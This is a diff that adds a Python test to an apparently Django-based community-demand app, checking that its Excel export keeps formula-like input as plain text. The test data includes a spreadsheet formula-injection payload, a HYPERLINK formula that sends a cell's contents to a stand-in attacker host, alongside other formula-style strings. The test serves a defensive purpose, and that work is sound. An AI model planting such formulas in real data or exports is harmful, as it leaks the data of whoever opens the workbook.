@@ -89,3 +89,29 @@ def test_export_holds_the_frozen_items_not_later_changes(published):
     services.demand_update(demand=leak, title="屋面翻修", actor=staff)
     sheet = load_workbook(BytesIO(demand_list_xlsx(demand_list))).active
     assert sheet["B4"].value == "屋顶漏水"
+
+
+def test_an_opinion_written_as_a_formula_stays_text_in_the_workbook():
+    """=HYPERLINK(…) as a demand's title or reason is a text cell, never a live formula."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&B5,"点此查看")'
+    community = region_chain()[-1]
+    estate = make_estate(community, name="=1+1小区", floors=2, per_floor=2)
+    staff = make_user("community_staff", region=community, password=None)
+    demand = Demand.objects.create(estate=estate, category="parking", title=formula)
+    Opinion.objects.create(
+        estate=estate,
+        dwelling=estate.dwellings.first(),
+        channel=Channel.RESIDENT,
+        text=formula,
+        heard_on=dt.date(2026, 3, 9),
+        category="parking",
+        demand=demand,
+    )
+    services.demand_set_status(demand=demand, status="declined", reason="@SUM(A1)", actor=staff)
+    demand_list = services.demand_list_publish(estate=estate, actor=staff, note="")
+
+    sheet = load_workbook(BytesIO(demand_list_xlsx(demand_list))).active
+
+    assert (sheet["B4"].value, sheet["B4"].data_type) == (formula, "s")
+    assert (sheet["L4"].value, sheet["L4"].data_type) == ("@SUM(A1)", "s")
+    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("=1+1小区")
